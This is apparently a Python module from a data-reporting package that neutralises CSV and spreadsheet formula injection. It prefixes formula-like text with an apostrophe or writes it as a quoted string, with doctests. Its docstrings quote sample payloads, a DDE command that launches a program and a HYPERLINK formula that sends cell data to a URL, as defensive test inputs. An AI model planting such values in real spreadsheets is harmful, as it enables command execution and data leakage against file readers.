"""Text from the data is never a formula in a spreadsheet (xlsx or CSV).

Enterprise, project, task and chain names are typed by people and travel into every output. A name such as
``=HYPERLINK("http://…"&B5,"name")`` or ``=cmd|' /C calc'!A0`` would be a live formula if written as it
is. The rule (OWASP, "CSV injection") is applied in one place, here:

* a text value that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
  *formula-like* — except a value starting with ``-`` that is a plain number (``-2.3``, ``-1,200``,
  ``-4.5%``) and the "not computable" mark ``--`` (and ``-``), which cannot be formulas;
* in CSV files a formula-like value gets a leading apostrophe (``'=HYPERLINK(…)``), which spreadsheet
  programs show as text: :func:`csv_safe`, :func:`csv_safe_frame`;
* in the Excel workbook the cell is written as a string (never a formula cell) with Excel's "quote
  prefix" set, so the text is shown unchanged and stays text when the cell is edited
  (:func:`gxanalysis.reporting.workbook.write_workbook` uses :func:`is_formula_like`).

Numbers are never touched; JSON and plain-text outputs are not spreadsheets and are left as they are.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # pragma: no cover
    import pandas as pd

FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make spreadsheet programs read a text as a formula (or a DDE command)."""

_NUMBER = re.compile(r"-\d[\d,]*(\.\d+)?([eE][-+]?\d+)?%?")
_PLACEHOLDERS = frozenset({"-", "--"})


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program would read ``text`` as a formula.

    Examples
    --------
    >>> [is_formula_like(s) for s in ("=1+1", "+1+1", "@SUM(A1)", "-2+3", "\\tx", "澜东区")]
    [True, True, True, True, True, False]
    >>> [is_formula_like(s) for s in ("-2.3", "-1,200", "-4.5%", "--", "3-2")]
    [False, False, False, False, False]
    """
    if not text or not text.startswith(FORMULA_TRIGGERS):
        return False
    if text[0] == "-" and (text in _PLACEHOLDERS or _NUMBER.fullmatch(text)):
        return False
    return True


def csv_safe(value: Any) -> Any:
    """A cell value for a CSV file: formula-like text gets a leading apostrophe; anything else unchanged.

    Examples
    --------
    >>> csv_safe('=HYPERLINK("http://x"&B5,"n")')
    '\\'=HYPERLINK("http://x"&B5,"n")'
    >>> csv_safe("-2.3"), csv_safe(-2.3), csv_safe("金澜市")
    ('-2.3', -2.3, '金澜市')
    """
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with :func:`csv_safe` applied to every text cell and to the column names.

    Examples
    --------
    >>> import pandas as pd
    >>> csv_safe_frame(pd.DataFrame({"scope": ["=cmd|' /C calc'!A0", "金澜市"], "value": [-1.5, 2.0]}))
                     scope  value
    0  '=cmd|' /C calc'!A0   -1.5
    1                  金澜市    2.0
    """
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or str(out[col].dtype) in ("string", "str"):
            out[col] = out[col].map(csv_safe)
    out.columns = [csv_safe(c) for c in out.columns]
    return out


__all__ = ["FORMULA_TRIGGERS", "csv_safe", "csv_safe_frame", "is_formula_like"]
